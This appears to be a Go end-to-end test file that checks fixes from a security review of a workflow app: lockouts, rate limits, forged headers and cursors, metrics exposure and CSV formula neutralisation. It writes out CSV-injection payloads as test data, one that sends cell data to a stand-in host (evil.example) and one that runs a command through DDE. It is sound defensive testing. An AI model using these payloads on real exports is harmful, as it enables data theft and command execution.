package e2e

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/zhidu/zhidu/api"
	"github.com/zhidu/zhidu/demo"
	"github.com/zhidu/zhidu/web"
	"github.com/zhidu/zhidu/workflows"
)

// The smaller holes of the security review (issue 11, section 5), each
// reproduced as the attacker did it.

// signinClient drives the web inbox's sign-in form from one address.
type signinClient struct {
	t    *testing.T
	url  string
	addr string // X-Forwarded-For to send ("" for none)
}

// signin posts the password form and returns the answer (redirects are
// not followed: 303 is a sign-in).
func (c signinClient) signin(username, password string) *http.Response {
	c.t.Helper()
	jar := http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	res, err := jar.Get(c.url + "/signin")
	if err != nil {
		c.t.Fatal(err)
	}
	var body bytes.Buffer
	_, _ = body.ReadFrom(res.Body)
	res.Body.Close()
	m := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(body.String())
	if m == nil {
		c.t.Fatalf("no CSRF token on the sign-in page: %s", body.String())
	}
	form := url.Values{"username": {username}, "password": {password}, "csrf": {m[1]}}
	req, _ := http.NewRequest("POST", c.url+"/signin", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for _, ck := range res.Cookies() {
		req.AddCookie(ck)
	}
	if c.addr != "" {
		req.Header.Set("X-Forwarded-For", c.addr)
	}
	out, err := jar.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	out.Body.Close()
	return out
}

// webServer serves the web inbox in front of the stack's API with cfg
// (the sign-in address believed as the API believes it).
func (s *stack) webServer(cfg web.Config) string {
	s.t.Helper()
	cfg.ClientAddress = s.server.ClientAddress
	srv := httptest.NewServer(web.New(cfg, s.server.Router(), s.store))
	s.t.Cleanup(srv.Close)
	return srv.URL
}

func wantStatus(t *testing.T, what string, res *http.Response, want int) {
	t.Helper()
	if res.StatusCode != want {
		t.Fatalf("%s: status %d, want %d", what, res.StatusCode, want)
	}
}

// TestSigninLockout: 200 wrong passwords used to be answered at once and
// the right one then worked. Now the configured number of failures in a
// row locks the account — in PostgreSQL, so another replica (or a
// restart) refuses it too —, the lockout is in the audit trail, and only
// an administrator lifts it.
func TestSigninLockout(t *testing.T) {
	s := newStack(t)
	cfg := web.Config{LockoutAfter: 3}
	first := signinClient{t: t, url: s.webServer(cfg)}
	for i := range 2 {
		wantStatus(t, "wrong password "+strconv.Itoa(i+1), first.signin("cs.agent", "guess"), http.StatusUnauthorized)
	}
	res := first.signin("cs.agent", "guess")
	wantStatus(t, "the failure that locks", res, http.StatusTooManyRequests)
	if res.Header.Get("Retry-After") != "" {
		t.Errorf("a lock until an administrator lifts it has Retry-After %q", res.Header.Get("Retry-After"))
	}
	wantStatus(t, "the right password on a locked account", first.signin("cs.agent", demo.Password), http.StatusTooManyRequests)
	// Another replica, started afresh, knows.
	second := signinClient{t: t, url: s.webServer(cfg)}
	wantStatus(t, "the right password on another replica", second.signin("cs.agent", demo.Password), http.StatusTooManyRequests)
	if n := s.count(`SELECT count(*) FROM web_sessions WHERE username = 'cs.agent'`); n != 0 {
		t.Fatalf("a locked account got %d sessions", n)
	}
	if n := s.count(`SELECT count(*) FROM audit WHERE action = 'session.lockout' AND object = 'user:cs.agent' AND decision = 'denied'
        AND (detail->>'failures')::int = 3`); n != 1 {
		t.Fatalf("lockout audit entries: %d, want 1", n)
	}
	// Others are not locked out with it.
	wantStatus(t, "another account", first.signin("cs.head", demo.Password), http.StatusSeeOther)

	// Only the system administrator unlocks, and no administrator's account.
	s.wantError(s.call("cs.head", "POST", "/api/v1/admin/users/cs.agent/unlock", nil), http.StatusForbidden, "forbidden")
	s.wantError(s.call("secadmin", "POST", "/api/v1/admin/users/cs.agent/unlock", nil), http.StatusForbidden, "forbidden")
	s.wantError(s.call("sysadmin", "POST", "/api/v1/admin/users/sysadmin/unlock", nil), http.StatusForbidden, "forbidden")
	s.wantError(s.call("sysadmin", "POST", "/api/v1/admin/users/secaudit/unlock", nil), http.StatusForbidden, "forbidden")
	s.wantError(s.call("sysadmin", "POST", "/api/v1/admin/users/nobody/unlock", nil), http.StatusNotFound, "not_found")
	if r := s.must(http.StatusOK, s.call("sysadmin", "POST", "/api/v1/admin/users/cs.agent/unlock", nil)); r["was_locked"] != true {
		t.Fatalf("unlock = %v", r)
	}
	if n := s.count(`SELECT count(*) FROM audit WHERE action = 'admin.user.unlock' AND object = 'user:cs.agent' AND actor = 'sysadmin'`); n != 1 {
		t.Fatalf("unlock audit entries: %d, want 1", n)
	}
	wantStatus(t, "the right password after the unlock", second.signin("cs.agent", demo.Password), http.StatusSeeOther)
	// A good sign-in starts the count again.
	wantStatus(t, "one wrong password", first.signin("cs.agent", "guess"), http.StatusUnauthorized)
	wantStatus(t, "then the right one", first.signin("cs.agent", demo.Password), http.StatusSeeOther)
	if n := s.count(`SELECT count(*) FROM signin_failures`); n != 0 {
		t.Fatalf("failures remembered after a good sign-in: %d", n)
	}

	// A lock with an expiry lifts itself, and says when.
	timed := signinClient{t: t, url: s.webServer(web.Config{LockoutAfter: 2, LockoutFor: 1500 * time.Millisecond})}
	timed.signin("cs.super", "guess")
	res = timed.signin("cs.super", "guess")
	wantStatus(t, "timed lock", res, http.StatusTooManyRequests)
	if ra, _ := strconv.Atoi(res.Header.Get("Retry-After")); ra < 1 || ra > 2 {
		t.Fatalf("Retry-After = %q, want 1 or 2 seconds", res.Header.Get("Retry-After"))
	}
	time.Sleep(1600 * time.Millisecond)
	wantStatus(t, "after the lock expired", timed.signin("cs.super", demo.Password), http.StatusSeeOther)
}

// TestSigninLimits: sign-in attempts are limited per username and per
// address (429 with Retry-After); a forged X-Forwarded-For neither escapes
// the per-address limit nor lands in the audit trail, unless it comes
// from a trusted proxy.
func TestSigninLimits(t *testing.T) {
	s := newStack(t)
	perAccount := signinClient{t: t, url: s.webServer(web.Config{SigninPerAccount: api.Rate{N: 3, Per: time.Minute}})}
	for range 3 {
		wantStatus(t, "within the account's limit", perAccount.signin("cs.agent", "guess"), http.StatusUnauthorized)
	}
	res := perAccount.signin("cs.agent", demo.Password)
	wantStatus(t, "over the account's limit", res, http.StatusTooManyRequests)
	if ra, _ := strconv.Atoi(res.Header.Get("Retry-After")); ra < 1 || ra > 20 {
		t.Fatalf("Retry-After = %q, want about 20 s", res.Header.Get("Retry-After"))
	}
	wantStatus(t, "another account", perAccount.signin("cs.head", demo.Password), http.StatusSeeOther)

	perAddress := s.webServer(web.Config{SigninPerAddress: api.Rate{N: 3, Per: time.Minute}})
	for i, user := range []string{"u1", "u2", "u3"} {
		c := signinClient{t: t, url: perAddress, addr: "203.0.113." + strconv.Itoa(i+1)}
		wantStatus(t, "within the address's limit", c.signin(user, "guess"), http.StatusUnauthorized)
	}
	c := signinClient{t: t, url: perAddress, addr: "203.0.113.99"}
	wantStatus(t, "a forged X-Forwarded-For over the address's limit", c.signin("cs.agent", demo.Password), http.StatusTooManyRequests)
	if n := s.count(`SELECT count(*) FROM audit WHERE action = 'session.signin' AND address LIKE '203.0.113.%'`); n != 0 {
		t.Fatalf("%d sign-in audit entries record a forged X-Forwarded-For", n)
	}

	// Behind a trusted proxy, the forwarded address is the client's.
	trusted := newStackWith(t, func(c *api.Config) { c.TrustedProxies = []string{"127.0.0.1"} })
	via := signinClient{t: t, url: trusted.webServer(web.Config{SigninPerAddress: api.Rate{N: 1, Per: time.Minute}}), addr: "198.51.100.7"}
	wantStatus(t, "through the proxy", via.signin("cs.agent", demo.Password), http.StatusSeeOther)
	if n := trusted.count(`SELECT count(*) FROM audit WHERE action = 'session.signin' AND actor = 'cs.agent' AND address = '198.51.100.7'`); n != 1 {
		t.Fatalf("the trusted proxy's X-Forwarded-For is not the audited address (%d entries)", n)
	}
	via.addr = "198.51.100.8"
	wantStatus(t, "another client through the proxy", via.signin("cs.head", demo.Password), http.StatusSeeOther)
	via.addr = "198.51.100.7"
	wantStatus(t, "the first client again", via.signin("cs.head", demo.Password), http.StatusTooManyRequests)
}

// TestAPIRateLimits: the API answers 429 with Retry-After over the limit
// per caller and per address, in the one error shape.
func TestAPIRateLimits(t *testing.T) {
	s := newStackWith(t, func(c *api.Config) { c.RatePerUser = api.Rate{N: 5, Per: time.Minute} })
	for range 5 {
		s.must(http.StatusOK, s.call("cs.agent", "GET", "/api/v1/me", nil))
	}
	r := s.call("cs.agent", "GET", "/api/v1/tasks", nil)
	s.wantError(r, http.StatusTooManyRequests, "too_many_requests")
	if ra, _ := strconv.Atoi(r.Header.Get("Retry-After")); ra < 1 || ra > 12 {
		t.Fatalf("Retry-After = %q, want about 12 s", r.Header.Get("Retry-After"))
	}
	s.must(http.StatusOK, s.call("cs.head", "GET", "/api/v1/me", nil))

	s = newStackWith(t, func(c *api.Config) { c.RatePerAddress = api.Rate{N: 3, Per: time.Minute} })
	for range 3 {
		s.wantError(s.call("", "GET", "/api/v1/me", nil, "Authorization", "Bearer guessed"), http.StatusUnauthorized, "unauthenticated")
	}
	r = s.call("", "GET", "/api/v1/me", nil, "Authorization", "Bearer guessed", "X-Forwarded-For", "192.0.2.1")
	s.wantError(r, http.StatusTooManyRequests, "too_many_requests")
	if r.Header.Get("Retry-After") == "" {
		t.Fatal("429 without Retry-After")
	}
}

// TestCommentNeedsParticipant: reading a task used to be enough to comment
// on it. Now a participant of its process may, compliance may (marked as
// such), anyone else gets 403, and a finished task takes none (409).
func TestCommentNeedsParticipant(t *testing.T) {
	s := newStack(t)
	pid := s.startApproval("cs.agent", "comments", "internal")
	task := s.waitTask(pid, "dept_head_approval")
	path := "/api/v1/tasks/" + task + "/comments"

	// cs.super reads cs's internal processes but takes no part in this one.
	s.must(http.StatusOK, s.call("cs.super", "GET", "/api/v1/tasks/"+task, nil))
	s.wantError(s.call("cs.super", "POST", path, map[string]any{"body": "drive-by"}), http.StatusForbidden, "forbidden")
	if n := s.count(`SELECT count(*) FROM audit WHERE action = 'task.comment' AND actor = 'cs.super' AND decision = 'denied'`); n != 1 {
		t.Fatalf("denied comment audit entries: %d", n)
	}
	perm := func(user string) any {
		return s.must(http.StatusOK, s.call(user, "GET", "/api/v1/tasks/"+task, nil))["permissions"].(map[string]any)["comment"]
	}
	if perm("cs.super") != false || perm("cs.head") != true || perm("cs.agent") != true {
		t.Fatalf("comment permission: cs.super %v, cs.head %v, cs.agent %v", perm("cs.super"), perm("cs.head"), perm("cs.agent"))
	}

	if c := s.must(http.StatusCreated, s.call("cs.agent", "POST", path, map[string]any{"body": "the starter"})); c["compliance"] != nil {
		t.Fatalf("a participant's comment is marked: %v", c)
	}
	s.must(http.StatusCreated, s.call("cs.head", "POST", path, map[string]any{"body": "a candidate"}))
	if c := s.must(http.StatusCreated, s.call("bmo.auditor", "POST", path, map[string]any{"body": "compliance"})); c["compliance"] != true {
		t.Fatalf("compliance's comment is not marked: %v", c)
	}
	list := s.must(http.StatusOK, s.call("cs.agent", "GET", path, nil))["items"].([]any)
	if len(list) != 3 || list[2].(map[string]any)["compliance"] != true {
		t.Fatalf("comments = %v", list)
	}

	s.work("cs.head", task, "approve", nil)
	s.wantError(s.call("cs.head", "POST", path, map[string]any{"body": "too late"}), http.StatusConflict, "conflict")
	if perm("cs.head") != false {
		t.Fatal("a completed task offers comments")
	}
	if n := s.count(`SELECT count(*) FROM task_comments WHERE task_id = $1`, task); n != 3 {
		t.Fatalf("comments stored: %d, want 3", n)
	}
}

// cursorOf forges a page cursor.
func cursorOf(key, id string) string {
	return base64.RawURLEncoding.EncodeToString([]byte(`{"k":` + strconv.Quote(key) + `,"i":` + strconv.Quote(id) + `}`))
}

// TestForgedCursorsAndNumbers: a forged cursor or an out-of-range number
// used to reach PostgreSQL and come back as 500. Now each is a 400 naming
// the parameter, and real cursors still page.
func TestForgedCursorsAndNumbers(t *testing.T) {
	s := newStack(t)
	var pids []string
	for i := range 3 {
		pids = append(pids, s.startApproval("cs.agent", "page "+strconv.Itoa(i), "internal"))
	}
	for _, pid := range pids {
		s.waitTask(pid, "dept_head_approval")
	}
	for _, c := range []struct{ name, path, field string }{
		{"priority 99999999 in a cursor", "/api/v1/tasks?sort=priority&cursor=" + cursorOf("99999999", "t-1"), "cursor"},
		{"text for a priority", "/api/v1/tasks?sort=-priority&cursor=" + cursorOf("high", "t-1"), "cursor"},
		{"text for a time", "/api/v1/tasks?cursor=" + cursorOf("yesterday", "t-1"), "cursor"},
		{"a day that does not exist", "/api/v1/processes?cursor=" + cursorOf("2026-02-30 10:00:00+00", "p"), "cursor"},
		{"NUL in the ID", "/api/v1/complaints?cursor=" + cursorOf("2026-11-27 10:00:00+00", "p\x00"), "cursor"},
		{"no ID", "/api/v1/tasks?sort=due_at&cursor=" + cursorOf("infinity", ""), "cursor"},
		{"not base64", "/api/v1/processes?cursor=%25%25", "cursor"},
		{"priority 99999999", "/api/v1/tasks?priority=99999999", "priority"},
		{"limit 99999999", "/api/v1/tasks?limit=99999999", "limit"},
		{"a negative limit", "/api/v1/processes?limit=-1", "limit"},
		{"a date past RFC 3339", "/api/v1/tasks?due_before=99999-01-01T00:00:00Z", "due_before"},
		{"an audit ID past bigint", "/api/v1/audit?after=99999999999999999999", "after"},
	} {
		user := "cs.head"
		if strings.Contains(c.path, "/audit") {
			user = "bmo.auditor"
		}
		r := s.call(user, "GET", c.path, nil)
		var body struct {
			Error struct {
				Code   string            `json:"code"`
				Fields map[string]string `json:"fields"`
			} `json:"error"`
		}
		_ = json.Unmarshal(r.Body, &body)
		if r.Status != http.StatusBadRequest || body.Error.Code != "invalid" || body.Error.Fields[c.field] == "" {
			t.Errorf("%s: %d %s, want 400 invalid naming %s", c.name, r.Status, r.Body, c.field)
		}
	}

	// Cursors this server issued still page, whatever the sort.
	for _, sort := range []string{"created_at", "-created_at", "due_at", "-due_at", "priority", "-priority"} {
		seen := map[string]bool{}
		next := ""
		for range 5 {
			q := "/api/v1/tasks?limit=1&sort=" + sort
			if next != "" {
				q += "&cursor=" + next
			}
			page := s.must(http.StatusOK, s.call("cs.head", "GET", q, nil))
			for _, it := range page["items"].([]any) {
				seen[it.(map[string]any)["id"].(string)] = true
			}
			next, _ = page["next_cursor"].(string)
			if next == "" {
				break
			}
		}
		if len(seen) != 3 {
			t.Errorf("sort %s: paged through %d tasks, want 3", sort, len(seen))
		}
	}
	seen := map[string]bool{}
	next := ""
	for range 5 {
		q := "/api/v1/processes?limit=1"
		if next != "" {
			q += "&cursor=" + next
		}
		page := s.must(http.StatusOK, s.call("cs.agent", "GET", q, nil))
		for _, it := range page["items"].([]any) {
			seen[it.(map[string]any)["id"].(string)] = true
		}
		if next, _ = page["next_cursor"].(string); next == "" {
			break
		}
	}
	if len(seen) != 3 {
		t.Errorf("paged through %d processes, want 3", len(seen))
	}
}

// TestCSVNeutralisesFormulas: the complaint register's CSV used to carry
// =HYPERLINK(…), +…, -…, @SUM(…) and tab- or CR-led cells verbatim, which a
// spreadsheet runs as formulas. Every such cell now starts with a quote.
func TestCSVNeutralisesFormulas(t *testing.T) {
	s := newStack(t)
	body := productComplaint()
	body["complainant"] = map[string]any{"name": `=HYPERLINK("http://evil.example/?d="&A1,"点击")`, "contact": "+86 138-0000-0000"}
	// A tab-led one-line field is refused before it gets anywhere (store's
	// TestCSVCell covers tab- and CR-led cells of the writer).
	body["batch"] = "\tB2026"
	s.wantError(s.call("cs.agent", "POST", "/api/v1/processes/complaint", body), http.StatusBadRequest, "invalid")
	body["subject"], body["product"], body["batch"] = "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "B2026"
	pid := s.startComplaint("cs.agent", body)
	r := s.call("cs.super", "GET", "/api/v1/complaints?format=csv", nil)
	if r.Status != http.StatusOK {
		t.Fatalf("CSV export: %d %s", r.Status, r.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var row []string
	for _, rw := range rows {
		if rw[0] == pid {
			row = rw
		}
	}
	if row == nil {
		t.Fatalf("the complaint is not in the CSV:\n%s", r.Body)
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?d="&A1,"点击")`, "'+86 138-0000-0000", "'@SUM(A1:A9)", "'-2+3+cmd|' /C calc'!A0"} {
		found := false
		for _, cell := range row {
			found = found || cell == want
		}
		if !found {
			t.Errorf("no cell %q in %q", want, row)
		}
	}
	for _, rw := range rows {
		for _, cell := range rw {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a cell starts a formula: %q", cell)
			}
		}
	}
}

// TestMetricsNotOnTheAPI: /metrics was served to anyone on the inbox's
// listener. The API and the inbox answer 404; the metrics are served by
// api.MetricsHandler on their own address (cmd's --metrics-addr).
func TestMetricsNotOnTheAPI(t *testing.T) {
	s := newStack(t)
	pid := s.startApproval("cs.agent", "metrics", "internal")
	s.work("cs.head", s.waitTask(pid, "dept_head_approval"), "approve", nil)
	if r := s.call("", "GET", "/metrics", nil); r.Status != http.StatusNotFound || strings.Contains(string(r.Body), "zhidu_") {
		t.Fatalf("/metrics on the API: %d %.200s", r.Status, r.Body)
	}
	inbox := s.webServer(web.Config{})
	res, err := http.Get(inbox + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusNotFound {
		t.Fatalf("/metrics on the inbox: %d", res.StatusCode)
	}
	rec := httptest.NewRecorder()
	api.MetricsHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	for _, m := range []string{"zhidu_process_starts_total", "zhidu_tasks_created_total", "zhidu_tasks_completed_total", "zhidu_http_request_duration_seconds_bucket"} {
		if !strings.Contains(rec.Body.String(), m) {
			t.Errorf("the metrics lack %s", m)
		}
	}
}

// TestHugeCompensation: a compensation beyond what the register holds
// (numeric(14, 2)) used to be accepted by the workflow and then fail the
// projection's write; the workflow's validator now refuses it (400) and
// the task stays claimed.
func TestHugeCompensation(t *testing.T) {
	s := newStack(t)
	pid := s.startComplaint("cs.agent", productComplaint())
	s.claimComplete("cs.super", s.waitTask(pid, workflows.StepTriage), "valid", map[string]any{"responsible_department": "quality"})
	inv := s.waitTask(pid, workflows.StepInvestigation)
	s.must(http.StatusOK, s.call("quality.eng", "POST", "/api/v1/tasks/"+inv+"/claim", nil))
	e := s.wantError(s.call("quality.eng", "POST", "/api/v1/tasks/"+inv+"/complete", map[string]any{"outcome": "submit",
		"data": map[string]any{"cause": "c", "responsibility": "r", "remedy": "compensate", "compensation_amount": 1e15}}),
		http.StatusBadRequest, "invalid")
	if f, _ := e["fields"].(map[string]any); f["data.compensation_amount"] == nil {
		t.Fatalf("error %v does not name the amount", e)
	}
	if n := s.count(`SELECT count(*) FROM tasks WHERE id = $1 AND state = 'claimed'`, inv); n != 1 {
		t.Fatal("the refused completion changed the task")
	}
	s.must(http.StatusOK, s.call("quality.eng", "POST", "/api/v1/tasks/"+inv+"/complete", map[string]any{"outcome": "submit",
		"data": map[string]any{"cause": "c", "responsibility": "r", "remedy": "compensate", "compensation_amount": 999999999999.99}}))
	s.waitTask(pid, workflows.StepApproval)
}

// TestSigninRefusesControlCharacters: a username with a NUL byte reached
// PostgreSQL (the lockout lookup) and answered 500; now it names no
// account: 400, no audit entry, nothing counted.
func TestSigninRefusesControlCharacters(t *testing.T) {
	s := newStack(t)
	c := signinClient{t: t, url: s.webServer(web.DefaultConfig())}
	audit := s.count(`SELECT count(*) FROM audit`)
	for _, name := range []string{"cs.agent\x00", "cs\x01agent", "cs.agent\u009b"} {
		wantStatus(t, "sign-in as "+strconv.Quote(name), c.signin(name, demo.Password), http.StatusBadRequest)
	}
	if n := s.count(`SELECT count(*) FROM audit`); n != audit {
		t.Errorf("%d audit entries after refused sign-ins, want %d", n, audit)
	}
	if n := s.count(`SELECT count(*) FROM signin_failures`); n != 0 {
		t.Errorf("%d failures counted, want none", n)
	}
	wantStatus(t, "the real account", c.signin("cs.agent", demo.Password), http.StatusSeeOther)
}
